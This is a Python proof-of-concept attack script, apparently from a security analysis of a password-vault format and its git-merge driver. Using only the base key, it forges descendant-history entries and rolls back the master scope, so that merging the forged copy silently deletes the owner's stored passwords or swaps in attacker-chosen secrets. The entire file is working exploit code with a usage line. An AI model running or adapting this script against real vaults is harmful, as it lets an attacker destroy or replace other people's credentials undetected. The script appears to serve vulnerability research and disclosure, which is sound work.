#!/usr/bin/python3
"""Attack 4b: a holder of BK alone writes, in the base scope it may write, entries for items of the
master scope whose histories *descend* from the owner's (histories are in the index, which every
key holder reads, §8), and puts back an older master-scope state that lacks those items (§7.3).
A two-way merge of that copy into the owner's (git-merge driver, `vaulttool merge`) then takes
the forged states silently (R-MRG-18 2.): a deletion removes the owner's item, a live entry
replaces it with the attacker's secret.

usage: forged_descendant.py <current> <older copy> <out> <password file> <action> ...
  action: delete:<service>/<account>  or  replace:<service>/<account>=<secret>
The owner's password is used only to derive BK (what a device keyslot unwraps); MK is dropped.
The attacker finds each item by its lookup tag, which BK's LK computes from a guessed primary key.
"""
import os
import pathlib
import sys

from v3forge import Vault3, cf, encode_attributes, now_ms

current, older, out, password_file = sys.argv[1:5]
file, old = pathlib.Path(current).read_bytes(), pathlib.Path(older).read_bytes()
owner = Vault3(file, {"password": pathlib.Path(password_file).read_text().rstrip("\n")})
opened = {"BK": cf.derive(owner.keys["mk"], 1, "VLTbase_")}
del owner
now, then = Vault3(file, opened=opened), Vault3(old, opened=opened)
assert now.keys["mk"] is None
base = now.entries((1, 0))
for action in sys.argv[5:]:
    kind, rest = action.split(":", 1)
    name, secret = (rest.split("=", 1) + [None])[:2]
    service, account = name.split("/")
    tag = now.tag(0, service, account)
    found = [(sid, k, e) for sid, k, e in now.all_entries() if k[:8] == tag and e["live"]]
    assert len(found) == 1, f"{name}: {len(found)} entries with its tag"
    sid, key, entry = found[0]
    assert not [1 for s, k, e in then.all_entries() if k[8:] == key[8:] and s == sid], \
        f"{name}: the older {sid} state still holds it"
    history = [os.urandom(8)] + entry["history"][:15]
    print(f"{name}: item {key[8:].hex()} in scope {sid}, history {[h.hex() for h in entry['history']]}")
    if kind == "delete":
        base.append((key, {"live": False, "deletedAt": now_ms(), "history": history}))
    else:
        attrs = encode_attributes(service, account, created=now_ms(), modified=now_ms())
        class_byte = 0x02  # generic password, always
        record = now.seal_record(key[8:], class_byte, history[0], secret.encode(), attrs)
        base.append((key, {"live": True, "class": class_byte, "protection": 2, "attrs": len(attrs),
                           "secret": len(secret.encode()), "offset": 0, "history": history, "record": record}))
pathlib.Path(out).write_bytes(now.commit(changes={(1, 0): base}, keep={(0, 0): then.scope((0, 0))}))
print(f"wrote {out}: master scope of {older}, base scope with {len(base)} entries")
